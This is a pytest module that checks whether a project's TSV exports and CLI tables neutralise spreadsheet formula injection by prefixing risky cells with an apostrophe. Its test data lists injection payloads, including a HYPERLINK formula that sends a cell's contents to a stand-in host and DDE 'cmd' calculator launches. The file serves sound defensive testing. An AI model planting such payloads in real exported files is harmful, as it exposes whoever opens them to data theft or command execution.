"""TSV written for people (the claims export, /api/claims?format=tsv, every CLI table with
--format tsv) never carries a cell a spreadsheet would run as a formula: cells beginning
with =, +, -, @, tab or carriage return get a leading apostrophe; numbers are left alone."""

from __future__ import annotations

import csv
import dataclasses
import io

import pytest

from evkg.cli._state import Table, _tsv_lines
from evkg.export import TSV_COLUMNS, write_tsv
from evkg.model.spreadsheet import spreadsheet_text
from evkg.store import ClaimFilter, SqlStore

ATTACKS = [
    '=HYPERLINK("http://example.invalid/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_starts_are_escaped(text: str) -> None:
    assert spreadsheet_text(text) == "'" + text


@pytest.mark.parametrize(
    "text", ["-0.5", "+3", "-1.2e-05", ".5", "12", "miR-146a-5p", "a=b", "", "'=already text"]
)
def test_numbers_and_ordinary_text_are_unchanged(text: str) -> None:
    assert spreadsheet_text(text) == text


def test_claims_tsv_escapes_a_hostile_quote(curated_store: SqlStore) -> None:
    stored = curated_store.claims(ClaimFilter(), limit=1)[0]
    hostile = stored.evidence[0].model_copy(update={"quote": ATTACKS[0]})
    claim = dataclasses.replace(stored, evidence=(hostile,))
    out = io.StringIO()
    assert write_tsv([claim], out, lambda curie: "=" + curie) == 1
    header, row = list(csv.reader(io.StringIO(out.getvalue()), delimiter="\t"))
    cells = dict(zip(header, row, strict=True))
    assert list(header) == list(TSV_COLUMNS)
    assert cells["evidence_quotes"] == "'" + ATTACKS[0]
    assert cells["subject_label"] == "'=" + stored.claim.subject  # labels too
    assert cells["confidence"] == str(stored.confidence)  # numbers as they were
    assert not any(value.startswith(("=", "+", "-", "@")) for value in row)


def test_cli_tsv_tables_escape_cells() -> None:
    table = Table("Cargo", ["name", "fold"], rows=[["=1+1", -0.75], ["@A1", 2.0]])
    lines = list(_tsv_lines(table))
    assert lines == ["name\tfold", "'=1+1\t-0.75", "'@A1\t2"]
